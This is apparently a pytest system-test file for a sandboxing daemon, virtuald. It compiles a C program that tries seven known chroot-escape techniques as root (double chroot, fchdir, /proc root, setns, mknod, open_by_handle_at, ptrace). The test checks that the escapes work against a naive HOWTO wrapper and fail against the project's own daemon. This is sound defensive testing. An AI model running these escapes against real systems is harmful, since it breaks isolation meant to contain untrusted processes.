"""The known ways for root out of a chroot: out of the HOWTO's virtuald in C, and not out of ours."""

import ctypes
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.system.test_virtuald import answer

pytestmark = pytest.mark.usefixtures("as_root")

# The steps of the HOWTO's virtuald: getsockname, chroot, chdir, execvp.
WRAPPER = r"""
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct sockaddr_in here;
    socklen_t size = sizeof here;
    char line[4096], address[64], folder[4000];
    FILE *conf = argc > 2 ? fopen(argv[1], "r") : NULL;
    if (!conf || getsockname(0, (struct sockaddr *)&here, &size)) return 1;
    while (fgets(line, sizeof line, conf))
        if (sscanf(line, "%63s %3999s", address, folder) == 2 && !strcmp(address, inet_ntoa(here.sin_addr))) {
            fclose(conf);
            if (chroot(folder) || chdir("/")) return 1;
            execvp(argv[2], argv + 2);
            return 1;
        }
    return 0;
}
"""

# Each way ends with "out" where it reached the marker, or a process, outside.
ESCAPE = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>
static int stopped(const char *what) { printf("stopped at %s\n", what); return 1; }
static int reach(const char *marker) {
    if (access(marker, F_OK)) return stopped("marker");
    printf("out\n");
    return 0;
}
static int climb(const char *marker) {
    for (int i = 0; i < 200; i++) if (chdir("..")) return stopped("..");
    if (chroot(".")) return stopped("chroot");
    return reach(marker);
}
int main(int argc, char **argv) {
    const char *way = argv[1], *marker = argv[2];
    char path[4096];
    mkdir("/tmp", 0777);
    mkdir("/tmp/cell", 0700);
    if (!strcmp(way, "chroot")) {
        if (chroot("/tmp/cell")) return stopped("chroot");
        return climb(marker);
    }
    if (!strcmp(way, "descriptor")) {
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        if (chroot("/tmp/cell") || chdir("/") || fchdir(fd)) return stopped("fchdir");
        return climb(marker);
    }
    if (!strcmp(way, "proc")) {
        int status;
        if (mount("proc", "/tmp/cell", "proc", 0, NULL)) return stopped("mount");
        snprintf(path, sizeof path, "/tmp/cell/%s/root%s", argv[3], marker);
        status = reach(path);
        umount("/tmp/cell");
        return status;
    }
    if (!strcmp(way, "setns")) {
        int fd, status = 1;
        if (mount("proc", "/tmp/cell", "proc", 0, NULL)) return stopped("mount");
        snprintf(path, sizeof path, "/tmp/cell/%s/ns/mnt", argv[3]);
        fd = open(path, O_RDONLY);
        umount("/tmp/cell");
        if (fd < 0 || setns(fd, CLONE_NEWNS)) stopped("setns"); else status = reach(marker);
        return status;
    }
    if (!strcmp(way, "device")) {
        if (mknod("/tmp/cell/node", S_IFCHR | 0600, makedev(1, 11))) return stopped("mknod");
        unlink("/tmp/cell/node");
        printf("out\n");
        return 0;
    }
    if (!strcmp(way, "handle")) {
        struct { struct file_handle head; unsigned char bytes[128]; } found;
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        found.head.handle_type = atoi(argv[3]);
        found.head.handle_bytes = strlen(argv[4]) / 2;
        for (unsigned i = 0; i < found.head.handle_bytes; i++)
            sscanf(argv[4] + 2 * i, "%2hhx", found.head.f_handle + i);
        if (open_by_handle_at(fd, &found.head, O_RDONLY) < 0) return stopped("open_by_handle_at");
        printf("out\n");
        return 0;
    }
    if (!strcmp(way, "trace")) {
        int pid = atoi(argv[3]);
        if (ptrace(PTRACE_SEIZE, pid, NULL, NULL)) return stopped("ptrace");
        printf("out\n");
        return 0;
    }
    return stopped("the beginning");
}
"""

WAYS = ("chroot", "descriptor", "proc", "setns", "device", "handle", "trace")


def compiled(source: str, program: Path) -> Path:
    subprocess.run(
        ["gcc", "-static", "-w", "-O1", "-x", "c", "-o", program, "-"],
        input=source.encode(),
        check=True,
    )
    return program


@pytest.fixture(scope="module")
def ground(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tree with the program that wants out, a conf file, the C wrapper, and a marker outside."""
    if os.geteuid() != 0:
        pytest.skip("needs root")
    folder = tmp_path_factory.mktemp("jail")
    tree = folder / "domain1.com"
    (tree / "bin").mkdir(parents=True)
    (tree / "tmp").mkdir()
    compiled(ESCAPE, tree / "bin" / "escape")
    compiled(WRAPPER, folder / "cvirtuald")
    (folder / "marker").write_text("outside\n")
    (folder / "conf").write_text(f"127.0.10.1 {tree}\n")
    return folder


@pytest.fixture
def victim() -> Iterator[int]:
    """A root process of the host's."""
    process = subprocess.Popen(["sleep", "600"])
    yield process.pid
    process.kill()
    process.wait()


def handle(path: Path) -> list[str]:
    """Type and bytes of the marker's handle (name_to_handle_at(2)), which an attacker would guess."""
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = (ctypes.c_uint * 34)(128, 0)
    if libc.name_to_handle_at(-100, os.fsencode(path), buffer, ctypes.byref(ctypes.c_int()), 0):
        pytest.skip("the file system has no handles")
    size, kind = buffer[0], ctypes.c_int(buffer[1]).value
    return [str(kind), bytes(buffer)[8 : 8 + size].hex()]


def words(way: str, ground: Path, victim: int) -> list[str]:
    more = handle(ground / "marker") if way == "handle" else [str(victim)]
    return [str(ground / "conf"), "/bin/escape", way, str(ground / "marker"), *more]


@pytest.mark.parametrize("way", WAYS)
def test_root_gets_out_of_the_howtos_wrapper(ground: Path, victim: int, way: str) -> None:
    """The way works: what holds it elsewhere is no accident."""
    assert answer(words(way, ground, victim), program=ground / "cvirtuald") == ("out\n", 0)


@pytest.mark.parametrize("way", WAYS)
def test_root_does_not_get_out_of_ours(ground: Path, victim: int, way: str) -> None:
    """The same program, as root, in the same tree, under virtuald."""
    told, status = answer(words(way, ground, victim))
    assert (told.partition(" ")[0], status) == ("stopped", 1)


def test_plain_chroot_is_what_it_says(ground: Path, victim: int) -> None:
    """`--chroot` is the HOWTO's way, and as weak."""
    assert answer(["--chroot", *words("chroot", ground, victim)]) == ("out\n", 0)


def test_what_is_mounted_inside_is_gone_with_the_connection(ground: Path) -> None:
    """No mount of ours is left on the host, whatever was served."""
    assert str(ground) not in Path("/proc/self/mountinfo").read_text()
